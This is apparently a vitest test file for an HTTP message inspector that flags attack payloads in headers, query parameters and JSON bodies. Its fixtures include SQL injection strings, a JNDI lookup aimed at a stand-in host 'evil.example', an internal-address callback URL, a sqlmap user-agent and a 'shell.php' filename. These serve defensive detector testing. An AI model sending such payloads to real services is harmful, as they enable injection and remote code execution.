import { describe, expect, it } from 'vitest'
import { defaultDecodeLimits } from '../content-limits.ts'
import { MessageInspector } from './message-inspector.ts'

const message = (headers: [string, string][], query: [string, string][] = []) => ({
  path: '/search',
  query,
  headers,
  content: { kind: 'empty' } as const,
})

describe('MessageInspector', () => {
  it('finds what the plain inspection finds, however often the same headers came before', () => {
    const inspector = new MessageInspector(defaultDecodeLimits)
    const agent: [string, string] = ['user-agent', 'shop-app/7.2 (Android 16; Pixel 9)']
    for (let round = 0; round < 3; round += 1) {
      expect(inspector.inspect(message([agent]))).toBeUndefined()
      expect(inspector.inspect(message([agent], [['q', "' or 1=1--"]]))).toMatchObject({ at: 'query:q' })
      expect(inspector.inspect(message([agent, ['x-name', '${jndi:ldap://evil.example/a}']]))).toMatchObject({
        kind: 'jndi',
        at: 'header:x-name',
      })
    }
    expect(inspector.size).toBe(1)
  })

  it('does not take a value for clean at one place because it is at another', () => {
    const inspector = new MessageInspector(defaultDecodeLimits)
    const rows: readonly (readonly [clean: string, hostile: string, value: string])[] = [
      ['referer', 'x-callback', 'http://127.0.0.1/admin'],
      ['x-tool', 'user-agent', 'sqlmap/1.8'],
      ['x-note', 'x-filename', 'shell.php'],
    ]
    expect(rows).toHaveLength(3)
    for (const [clean, hostile, value] of rows) {
      expect(inspector.inspect(message([[clean, value]]))).toBeUndefined()
      expect(inspector.inspect(message([[hostile, value]]))).toMatchObject({ at: `header:${hostile}` })
    }
  })

  it('does not take a value for clean because a header that nobody reads held it', () => {
    const inspector = new MessageInspector(defaultDecodeLimits)
    const attack = "' or 1=1--"
    expect(inspector.inspect(message([['x-request-id', attack]]))).toBeUndefined()
    expect(inspector.inspect(message([['x-name', attack]]))).toMatchObject({ at: 'header:x-name' })
    expect(inspector.inspect(message([['X-Name', attack]]))).toMatchObject({ at: 'header:x-name' })
  })

  it('does not take a header for clean because a worse hit stood beside it', () => {
    const inspector = new MessageInspector(defaultDecodeLimits)
    const bad: [string, string] = ['referer', "https://a.example/?id=' or 1=1--"]
    inspector.inspect(message([bad], [['q', '${jndi:ldap://evil.example/a}']]))
    expect(inspector.inspect(message([bad]))).toMatchObject({ at: 'header:referer' })
  })

  it('looks at every place of a body up to its bound, and no further', () => {
    const attack = "' or 1=1--"
    const body = (value: object) => ({
      path: '/search',
      query: [],
      headers: [],
      content: { kind: 'json', value: value as never } as const,
    })
    const inspect = (value: object) => new MessageInspector(defaultDecodeLimits).inspect(body(value))
    expect(inspect({ data: { items: [{ note: 'plain' }, { note: attack }] } })).toMatchObject({
      at: 'data.items[].note',
    })
    const filler = Array.from({ length: defaultDecodeLimits.leaves - 1 }, () => 'plain')
    expect(inspect({ filler, last: attack })).toMatchObject({ at: 'last' })
    expect(inspect({ filler, one: 'more', last: attack })).toBeUndefined()
  })
})
